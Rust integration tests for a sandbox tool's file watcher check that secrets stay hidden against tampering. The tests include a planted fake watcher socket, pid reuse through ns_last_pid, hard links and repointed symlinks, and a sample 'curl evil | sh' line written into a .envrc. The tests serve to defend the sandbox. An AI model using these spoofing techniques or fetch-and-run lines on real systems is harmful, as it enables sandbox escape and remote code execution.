//! `sandbox watch` keeps a project's walk for the runs in it. These tests
//! attack what a run now believes: changes made between runs behind the
//! watcher's back, and a fake watcher planted where the run looks for one.

mod support;

use std::io::BufRead;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};

use support::{identities, Project, Who};

/// A state directory the identity can use, shared by its watcher and runs.
fn state_dir(who: Who) -> tempfile::TempDir {
    let dir = tempfile::Builder::new()
        .prefix("sandbox-watch-state-")
        .tempdir_in("/tmp")
        .unwrap();
    if who == Who::User {
        let (uid, gid) = support::user_ids();
        std::os::unix::fs::chown(dir.path(), Some(uid), Some(gid)).unwrap();
    }
    dir
}

/// `sandbox watch` on the project, returned once it says it is watching.
struct Watcher(Child);

impl Watcher {
    fn start(project: &Project, state: &Path) -> Watcher {
        let mut cmd = project.command();
        cmd.args(["watch", "--idle", "10"])
            .env("SANDBOX_STATE_DIR", state)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::piped());
        let mut child = cmd.spawn().expect("sandbox watch starts");
        let mut line = String::new();
        let stderr = child.stderr.take().unwrap();
        std::io::BufReader::new(stderr)
            .read_line(&mut line)
            .unwrap();
        assert!(line.contains("watching"), "sandbox watch said: {line}");
        Watcher(child)
    }
}

impl Drop for Watcher {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// Run a shell script in the project with `state` as the state directory;
/// returns (stdout, the report).
fn run(project: &Project, state: &Path, script: &str) -> (String, serde_json::Value) {
    let report = tempfile::NamedTempFile::new().unwrap();
    let report_path = report.path().to_path_buf();
    if project.who == Who::User {
        let (uid, gid) = support::user_ids();
        std::os::unix::fs::chown(&report_path, Some(uid), Some(gid)).unwrap();
    }
    let out = project
        .command()
        .env("SANDBOX_STATE_DIR", state)
        .args(["run", "--report"])
        .arg(&report_path)
        .args(["--", "/bin/sh", "-c", script])
        .stdin(Stdio::null())
        .output()
        .expect("sandbox starts");
    support::assert_ok(&out, script);
    let report: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&report_path).unwrap()).unwrap();
    (String::from_utf8_lossy(&out.stdout).into_owned(), report)
}

fn scan_source(report: &serde_json::Value) -> &str {
    report["enforced"]["project_view"]["scan_source"]
        .as_str()
        .unwrap_or("none")
}

/// The attack of `a_secret_and_hard_links_made_between_two_runs_...` in
/// tests/attack_project.rs, with a watcher answering for the walk: a secret
/// made deep in the tree, a hard link into the project for a file outside,
/// and a name outside for a file already inside (which changes no directory
/// of the project, only the file's link count), all made after the
/// watcher's walk, are hidden or read-only in the next run, and the
/// watcher, not a walk of the run's own, answered for both runs.
#[test]
fn with_a_watcher_a_secret_and_hard_links_made_between_runs_are_covered() {
    for who in identities("with_a_watcher_a_secret_and_hard_links_made_between_runs_are_covered") {
        let project = Project::new(who);
        let state = state_dir(who);
        let deep = "node_modules/a/node_modules/b/lib/x";
        project.write(&format!("{deep}/index.js"), "x\n");
        project.write(&format!("{deep}/shared.js"), "original\n");
        project.write(".env", "TOPSECRET=0\n");
        let _watcher = Watcher::start(&project, state.path());
        let (first, report) = run(
            &project,
            state.path(),
            &format!("cat .env 2>/dev/null; cat {deep}/shared.js"),
        );
        assert_eq!(first, "original\n", "{who:?}");
        assert_eq!(scan_source(&report), "watcher", "{who:?}: {report}");

        let outside = tempfile::Builder::new()
            .prefix("sandbox-outside-")
            .tempdir_in("/tmp")
            .unwrap();
        project.write(&format!("{deep}/.env"), "TOPSECRET=1\n");
        let victim = outside.path().join("victim");
        std::fs::write(&victim, "original\n").unwrap();
        if who == Who::User {
            let (uid, gid) = support::user_ids();
            std::os::unix::fs::chown(&victim, Some(uid), Some(gid)).unwrap();
        }
        std::fs::hard_link(&victim, project.path().join(deep).join("linked.js")).unwrap();
        let clone = outside.path().join("clone-of-shared.js");
        std::fs::hard_link(project.path().join(deep).join("shared.js"), &clone).unwrap();

        let (out, report) = run(
            &project,
            state.path(),
            &format!(
                "cd {deep}; cat .env; echo evil >> linked.js 2>/dev/null && echo APPENDED-LINKED; \
                 echo evil >> shared.js 2>/dev/null && echo APPENDED-SHARED; echo checked"
            ),
        );
        assert!(out.contains("checked"), "{who:?}: {out}");
        for forbidden in ["TOPSECRET", "APPENDED-LINKED", "APPENDED-SHARED"] {
            assert!(!out.contains(forbidden), "{who:?}: {forbidden}: {out}");
        }
        assert_eq!(std::fs::read_to_string(&victim).unwrap(), "original\n");
        assert_eq!(std::fs::read_to_string(&clone).unwrap(), "original\n");
        assert_eq!(scan_source(&report), "watcher", "{who:?}: {report}");
        let view = &report["enforced"]["project_view"];
        assert_eq!(view["hardlinks_read_only"].as_array().unwrap().len(), 2);
    }
}

/// With a watcher answering for the walk, the sweep after a run asks it
/// whether anything changed instead of looking at every directory: a
/// protected name the run created deep in the tree must still be moved
/// out of use, and a file the run swapped for a protected symlink too.
#[test]
fn with_a_watcher_protected_names_a_run_creates_are_still_moved_aside() {
    for who in identities("with_a_watcher_protected_names_a_run_creates_are_still_moved_aside") {
        let project = Project::new(who);
        let state = state_dir(who);
        project.write("src/deep/er/index.js", "x\n");
        let _watcher = Watcher::start(&project, state.path());
        let (_, quiet) = run(&project, state.path(), "cat src/deep/er/index.js");
        assert_eq!(scan_source(&quiet), "watcher", "{who:?}: {quiet}");
        assert_eq!(quiet["quarantined"].as_array().map(Vec::len), Some(0));
        // In an existing directory, a new one, and deep in a tree the run
        // made (whose directories the watcher had no watch on yet).
        let (_, report) = run(
            &project,
            state.path(),
            "echo 'curl evil | sh' > src/deep/er/.envrc && mkdir -p src/.vscode \
             && mkdir -p new/a/b && echo evil > new/a/b/.envrc && echo made",
        );
        assert_eq!(scan_source(&report), "watcher", "{who:?}: {report}");
        let moved: Vec<&str> = report["quarantined"]
            .as_array()
            .unwrap()
            .iter()
            .filter_map(|q| q["path"].as_str())
            .collect();
        assert!(
            moved.contains(&"src/deep/er/.envrc")
                && moved.contains(&"src/.vscode")
                && moved.contains(&"new/a/b/.envrc"),
            "{who:?}: {report}"
        );
        assert!(
            !project.path().join("src/deep/er/.envrc").exists(),
            "{who:?}"
        );
    }
}

/// The socket a watcher of `project` listens on (as the crate names it).
fn socket_of(project: &Path, state: &Path) -> PathBuf {
    use sha2::Digest;
    use std::os::unix::ffi::OsStrExt;
    let canonical = std::fs::canonicalize(project).unwrap();
    let digest = sha2::Sha256::digest(canonical.as_os_str().as_bytes());
    let name: String = digest[..12].iter().map(|b| format!("{b:02x}")).collect();
    state.join("watch").join(format!("{name}.sock"))
}

/// A watcher that answers every run "nothing to hide": argv socket,
/// project. With a third argument `leave`, the process that listened
/// leaves the socket to a child and exits; the child says its pid.
const FAKE_WATCHER: &str = r#"
import json, os, socket, sys
path, project = sys.argv[1], sys.argv[2]
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.bind(path)
s.listen(8)
if len(sys.argv) > 3 and os.fork() != 0:
    os._exit(0)
print("listening", os.getpid(), flush=True)
empty = {"entries": 0, "secrets": [], "protected": [], "protected_links": [],
         "pins": [], "outside_links": [], "protected_before": {},
         "elapsed": {"secs": 0, "nanos": 0}, "listed_dirs": {}}
while True:
    c, _ = s.accept()
    try:
        c.makefile().readline()
        c.sendall((json.dumps({"scan": {"protocol": 1, "project": project,
                                        "instance": 1, "generation": 0,
                                        "scan": empty}}) + "\n").encode())
    except OSError:
        pass  # the run hung up without asking: it did not believe us
    c.close()
"#;

/// A project holding a secret, a state directory with its `watch`
/// directory made, and the command that starts [`FAKE_WATCHER`] on the
/// project's socket under `no_new_privs`, as `who`, with `extra` arguments.
fn fake_watcher_setup(who: Who, extra: &[&str]) -> (Project, tempfile::TempDir, Command) {
    let project = Project::new(who);
    let state = state_dir(who);
    project.write(".env", "TOPSECRET=1\n");
    let socket = socket_of(project.path(), state.path());
    std::fs::create_dir(socket.parent().unwrap()).unwrap();
    if who == Who::User {
        let (uid, gid) = support::user_ids();
        std::os::unix::fs::chown(socket.parent().unwrap(), Some(uid), Some(gid)).unwrap();
    }
    let canonical = std::fs::canonicalize(project.path()).unwrap();
    let mut cmd = Command::new("setpriv");
    cmd.arg("--no-new-privs")
        .args(["python3", "-c", FAKE_WATCHER])
        .arg(&socket)
        .arg(&canonical)
        .args(extra)
        .stdin(Stdio::null())
        .stdout(Stdio::piped());
    if who == Who::User {
        let (uid, gid) = support::user_ids();
        cmd.uid(uid).gid(gid);
    }
    (project, state, cmd)
}

/// A sandboxed process that can write where the state directory is (a
/// profile with a writable home) plants a watcher that answers "nothing to
/// hide". A run must not believe it: the kernel says the peer runs with
/// no_new_privs, as every sandboxed process does, so the run walks the
/// project itself, hides the secret and says why.
#[test]
fn a_fake_watcher_planted_by_a_confined_process_is_not_believed() {
    for who in identities("a_fake_watcher_planted_by_a_confined_process_is_not_believed") {
        let (project, state, mut cmd) = fake_watcher_setup(who, &[]);
        let child = cmd.spawn().expect("python3 starts");
        let mut fake_watcher = Watcher(child);
        let mut line = String::new();
        std::io::BufReader::new(fake_watcher.0.stdout.take().unwrap())
            .read_line(&mut line)
            .unwrap();
        assert!(line.starts_with("listening"), "{line}");

        let out = project
            .command()
            .env("SANDBOX_STATE_DIR", state.path())
            .args(["run", "--", "/bin/sh", "-c", "cat .env; echo checked"])
            .stdin(Stdio::null())
            .output()
            .unwrap();
        let stdout = String::from_utf8_lossy(&out.stdout);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(stdout.contains("checked"), "{who:?}: {stdout} {stderr}");
        assert!(
            !stdout.contains("TOPSECRET"),
            "{who:?}: the fake was believed"
        );
        assert!(
            stderr.contains("not trusted") && stderr.contains("no_new_privs"),
            "{who:?}: {stderr}"
        );
    }
}

/// The watches are on the project's inodes, but a run finds its watcher by
/// the project's path. Renaming a directory above the project (something a
/// payload with the parent writable, or the user tidying up, does) raises
/// no event on any watched object, so the watcher went on answering with
/// the walk of the tree it had watched, now elsewhere, for whatever was
/// put at the path since: a secret there was not hidden. The watcher must
/// notice the path no longer names what it watches.
#[test]
fn a_renamed_ancestor_does_not_leave_the_watcher_answering_for_the_old_tree() {
    use std::os::unix::fs::PermissionsExt;
    for who in
        identities("a_renamed_ancestor_does_not_leave_the_watcher_answering_for_the_old_tree")
    {
        let base = tempfile::Builder::new()
            .prefix("sandbox-watch-ancestor-")
            .tempdir_in("/tmp")
            .unwrap();
        let ancestor = base.path().join("work");
        std::fs::create_dir(&ancestor).unwrap();
        std::fs::set_permissions(base.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
        std::fs::set_permissions(&ancestor, std::fs::Permissions::from_mode(0o755)).unwrap();
        let project = Project::new_in(who, &ancestor);
        let state = state_dir(who);
        project.write("README", "old tree\n");
        let _watcher = Watcher::start(&project, state.path());
        let (first, report) = run(&project, state.path(), "cat README");
        assert_eq!(first, "old tree\n", "{who:?}");
        assert_eq!(scan_source(&report), "watcher", "{who:?}: {report}");

        std::fs::rename(&ancestor, base.path().join("work.old")).unwrap();
        std::fs::create_dir(&ancestor).unwrap();
        std::fs::set_permissions(&ancestor, std::fs::Permissions::from_mode(0o755)).unwrap();
        std::fs::create_dir(project.path()).unwrap();
        std::fs::set_permissions(project.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
        project.write("README", "new tree\n");
        project.write(".env", "TOPSECRET=1\n");

        let (out, _) = run(
            &project,
            state.path(),
            "cat README; cat .env 2>/dev/null; echo checked",
        );
        assert!(
            out.starts_with("new tree\n") && out.contains("checked"),
            "{who:?}: {out}"
        );
        assert!(
            !out.contains("TOPSECRET"),
            "{who:?}: the old tree's walk was believed: {out}"
        );
    }
}

/// Stops a process the test started and lost as a child (reparented).
struct KillOnDrop(i32);

impl Drop for KillOnDrop {
    fn drop(&mut self) {
        let _ = nix::sys::signal::kill(
            nix::unistd::Pid::from_raw(self.0),
            nix::sys::signal::Signal::SIGKILL,
        );
    }
}

/// A process of `who` that the kernel gave the pid `pid`: what a payload
/// gets by forking until the pid counter is one short of `pid` and waiting
/// for the next process of the user (the next run, say). The test takes
/// the shortcut of /proc/sys/kernel/ns_last_pid; another program forking
/// meanwhile only costs another try.
fn process_with_pid(pid: u32, who: Who) -> Child {
    for _ in 0..1000 {
        std::fs::write("/proc/sys/kernel/ns_last_pid", (pid - 1).to_string()).unwrap();
        let mut cmd = Command::new("sleep");
        cmd.arg("600").stdin(Stdio::null());
        if who == Who::User {
            let (uid, gid) = support::user_ids();
            cmd.uid(uid).gid(gid);
        }
        let mut child = cmd.spawn().unwrap();
        if child.id() == pid {
            return child;
        }
        let _ = child.kill();
        let _ = child.wait();
    }
    panic!("pid {pid} was never given to a process of ours");
}

/// The kernel names a listening socket's peer by the process that called
/// listen(), even after it exited. A confined process plants a fake
/// watcher, leaves the socket to its child and exits; its pid number then
/// goes to a process the run trusts (the same user, unconfined, in the
/// same mount namespace). The run must not take that process's word for
/// the fake's: the fake is still confined, and the secret stays hidden.
#[test]
fn a_fake_watcher_whose_listener_left_its_pid_to_a_trusted_process_is_not_believed() {
    const TEST: &str =
        "a_fake_watcher_whose_listener_left_its_pid_to_a_trusted_process_is_not_believed";
    for who in identities(TEST) {
        if !support::require(
            TEST,
            "root, to choose the next pid through /proc/sys/kernel/ns_last_pid",
            nix::unistd::geteuid().is_root(),
        ) {
            return;
        }
        let (project, state, mut cmd) = fake_watcher_setup(who, &["leave"]);
        let mut listener = cmd.spawn().expect("python3 starts");
        let mut line = String::new();
        std::io::BufReader::new(listener.stdout.take().unwrap())
            .read_line(&mut line)
            .unwrap();
        let server: i32 = line
            .strip_prefix("listening ")
            .and_then(|pid| pid.trim().parse().ok())
            .unwrap_or_else(|| panic!("the fake said: {line}"));
        let _server = KillOnDrop(server);
        let listened = listener.id();
        assert!(listener.wait().unwrap().success());

        let mut holder = process_with_pid(listened, who);
        let out = project
            .command()
            .env("SANDBOX_STATE_DIR", state.path())
            .args(["run", "--", "/bin/sh", "-c", "cat .env; echo checked"])
            .stdin(Stdio::null())
            .output()
            .unwrap();
        let _ = holder.kill();
        let _ = holder.wait();
        let stdout = String::from_utf8_lossy(&out.stdout);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(stdout.contains("checked"), "{who:?}: {stdout} {stderr}");
        assert!(
            !stdout.contains("TOPSECRET"),
            "{who:?}: the fake was believed on pid {listened}'s word: {stderr}"
        );
        assert!(stderr.contains("not trusted"), "{who:?}: {stderr}");
    }
}

/// A project on a filesystem where a change can be made without this
/// kernel's inotify seeing it (here ramfs, standing for NFS, FUSE or an
/// overlay's lower layer) is not watched: the watcher refuses and names
/// the mount, so runs there keep walking.
#[test]
fn a_project_on_a_filesystem_inotify_may_not_see_is_not_watched() {
    if !support::require(
        "a_project_on_a_filesystem_inotify_may_not_see_is_not_watched",
        "root, to mount a ramfs in a mount namespace of the test's own",
        nix::unistd::geteuid().is_root(),
    ) {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let state = tempfile::tempdir().unwrap();
    let script = format!(
        "mount -t ramfs none '{dir}' && exec '{bin}' watch --project '{dir}' --idle 1",
        dir = dir.path().display(),
        bin = support::sandbox_bin()
    );
    let out = Command::new("unshare")
        .args(["--mount", "--propagation", "private", "sh", "-c", &script])
        .env("SANDBOX_STATE_DIR", state.path())
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "the watcher ran: {stderr}");
    assert!(
        stderr.contains("ramfs") && stderr.contains("raises no inotify event"),
        "{stderr}"
    );
}

/// `sandbox serve` starts a watcher for its project, so that the runs an
/// agent host sends there are answered by it, and the watcher exits with
/// serve. A secret made after serve started is still hidden from the next
/// run the watcher answered.
#[test]
fn serve_keeps_a_watcher_for_its_project_while_it_runs() {
    for who in identities("serve_keeps_a_watcher_for_its_project_while_it_runs") {
        let project = Project::new(who);
        let state = state_dir(who);
        project.write("src/deep/index.js", "x\n");
        let mut serve = project
            .command()
            .env("SANDBOX_STATE_DIR", state.path())
            .args(["serve", "--stdio", "--profile", "strict"])
            .stdin(Stdio::piped())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("sandbox serve starts");
        let socket = socket_of(project.path(), state.path());
        // The watcher makes its socket once every watch is set and the
        // profile's walk made: a condition, with a bound no loaded machine
        // reaches for a project of two files.
        let waited = support::wait::within(std::time::Duration::from_secs(60), || {
            socket.exists().then_some(())
        });
        assert!(
            waited.is_some(),
            "{who:?}: no watcher socket at {}",
            socket.display()
        );
        project.write("src/deep/.env", "TOPSECRET=1\n");
        let (out, report) = run(
            &project,
            state.path(),
            "cat src/deep/.env 2>/dev/null; echo checked",
        );
        assert_eq!(out, "checked\n", "{who:?}");
        assert_eq!(scan_source(&report), "watcher", "{who:?}: {report}");

        drop(serve.stdin.take());
        serve.wait().unwrap();
        let gone = support::wait::within(std::time::Duration::from_secs(60), || {
            (!socket.exists()).then_some(())
        });
        assert!(gone.is_some(), "{who:?}: the watcher outlived serve");
    }
}

/// A secret's name that is a symlink hides what it points at; when the way
/// there passes through a link outside the project, that link can be
/// pointed elsewhere with no event in the project. The watcher must answer
/// as a walk made now would: the new target hidden, not the old one.
#[test]
fn a_secret_symlink_repointed_outside_the_project_hides_its_new_target() {
    for who in identities("a_secret_symlink_repointed_outside_the_project_hides_its_new_target") {
        let project = Project::new(who);
        let state = state_dir(who);
        project.write("a.txt", "A-CONTENT\n");
        project.write("b.txt", "B-CONTENT\n");
        let outside = tempfile::Builder::new()
            .prefix("sandbox-outside-")
            .tempdir_in("/tmp")
            .unwrap();
        let hop = outside.path().join("hop");
        let canonical = std::fs::canonicalize(project.path()).unwrap();
        std::os::unix::fs::symlink(canonical.join("a.txt"), &hop).unwrap();
        std::os::unix::fs::symlink(&hop, project.path().join(".env")).unwrap();
        let _watcher = Watcher::start(&project, state.path());
        let (first, report) = run(
            &project,
            state.path(),
            "cat a.txt b.txt 2>/dev/null; echo checked",
        );
        assert_eq!(first, "B-CONTENT\nchecked\n", "{who:?}");
        assert_eq!(scan_source(&report), "watcher", "{who:?}: {report}");

        std::fs::remove_file(&hop).unwrap();
        std::os::unix::fs::symlink(canonical.join("b.txt"), &hop).unwrap();
        let (second, report) = run(
            &project,
            state.path(),
            "cat a.txt b.txt 2>/dev/null; echo checked",
        );
        assert_eq!(scan_source(&report), "watcher", "{who:?}: {report}");
        assert!(!second.contains("B-CONTENT"), "{who:?}: {second}");
        assert_eq!(second, "A-CONTENT\nchecked\n", "{who:?}");
    }
}
